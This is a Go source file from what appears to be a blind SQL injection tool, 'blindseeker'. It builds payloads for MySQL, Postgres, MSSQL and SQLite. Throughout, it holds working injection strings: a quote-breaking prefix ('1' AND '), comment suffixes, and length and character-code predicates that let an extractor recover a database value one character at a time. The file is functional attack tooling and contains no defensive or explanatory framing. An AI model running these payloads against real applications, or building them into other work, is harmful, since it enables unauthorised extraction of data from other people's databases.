// Package payload renders the conditions the extractor asks about:
// "the expression has length N" and "the code point at position P
// is greater than M", for a given SQL dialect and injection context.
package payload

import (
	"fmt"
	"sort"
	"strconv"
	"strings"

	"blindseeker/internal/oracle"
)

// Dialect holds the SQL fragments for one database engine.
// Length and Code are templates over {expr} and {pos}.
type Dialect struct {
	Name     string
	Prefix   string // closes the original query and opens the predicate
	Suffix   string // comments out the rest of the query
	Length   string
	Code     string
	Database string // expression naming the current database
}

var dialects = map[string]Dialect{
	"mysql": {
		Name:     "mysql",
		Prefix:   "1' AND ",
		Suffix:   " #",
		Length:   "LENGTH({expr})",
		Code:     "ASCII(SUBSTRING({expr},{pos},1))",
		Database: "database()",
	},
	"postgres": {
		Name:     "postgres",
		Prefix:   "1' AND ",
		Suffix:   " --",
		Length:   "LENGTH({expr})",
		Code:     "ASCII(SUBSTRING({expr},{pos},1))",
		Database: "current_database()",
	},
	"mssql": {
		Name:     "mssql",
		Prefix:   "1' AND ",
		Suffix:   " --",
		Length:   "LEN({expr})",
		Code:     "ASCII(SUBSTRING({expr},{pos},1))",
		Database: "DB_NAME()",
	},
	"sqlite": {
		Name:     "sqlite",
		Prefix:   "1' AND ",
		Suffix:   " --",
		Length:   "LENGTH({expr})",
		Code:     "UNICODE(SUBSTR({expr},{pos},1))",
		Database: "sqlite_version()",
	},
}

// Lookup returns the named dialect.
func Lookup(name string) (Dialect, error) {
	d, ok := dialects[strings.ToLower(name)]
	if !ok {
		return Dialect{}, fmt.Errorf("unknown dialect %q (valid: %v)", name, Dialects())
	}
	return d, nil
}

// Dialects lists the known dialect names.
func Dialects() []string {
	names := make([]string, 0, len(dialects))
	for name := range dialects {
		names = append(names, name)
	}
	sort.Strings(names)
	return names
}

// Builder renders conditions about one scalar expression.
type Builder struct {
	dialect Dialect
	expr    string
}

// Options customise a Builder. Empty fields keep the dialect defaults.
type Options struct {
	Dialect    string
	Expression string
	Prefix     string
	Suffix     string
}

// NewBuilder resolves the dialect and applies overrides.
func NewBuilder(opts Options) (Builder, error) {
	name := opts.Dialect
	if name == "" {
		name = "mysql"
	}
	d, err := Lookup(name)
	if err != nil {
		return Builder{}, err
	}
	if opts.Prefix != "" {
		d.Prefix = opts.Prefix
	}
	if opts.Suffix != "" {
		d.Suffix = opts.Suffix
	}
	expr := strings.TrimSpace(opts.Expression)
	if expr == "" {
		expr = d.Database
	}
	return Builder{dialect: d, expr: expr}, nil
}

// MySQL returns the reference builder: database() on MySQL behind a
// quoted string parameter.
func MySQL() Builder {
	b, _ := NewBuilder(Options{Dialect: "mysql"})
	return b
}

// Expression returns the SQL expression being extracted.
func (b Builder) Expression() string { return b.expr }

// Dialect returns the resolved dialect.
func (b Builder) Dialect() Dialect { return b.dialect }

// LengthEquals asserts the expression is exactly n characters long.
func (b Builder) LengthEquals(n int) oracle.Condition {
	return oracle.Condition(b.dialect.Prefix + b.lengthExpr() + " = " + strconv.Itoa(n) + b.dialect.Suffix)
}

// CodeGreaterThan asserts the code point at 1-based pos exceeds mid.
func (b Builder) CodeGreaterThan(pos, mid int) oracle.Condition {
	return oracle.Condition(b.dialect.Prefix + b.codeExpr(strconv.Itoa(pos)) + " > " + strconv.Itoa(mid) + b.dialect.Suffix)
}

func (b Builder) lengthExpr() string {
	return strings.ReplaceAll(b.dialect.Length, "{expr}", b.expr)
}

func (b Builder) codeExpr(pos string) string {
	return strings.NewReplacer("{expr}", b.expr, "{pos}", pos).Replace(b.dialect.Code)
}
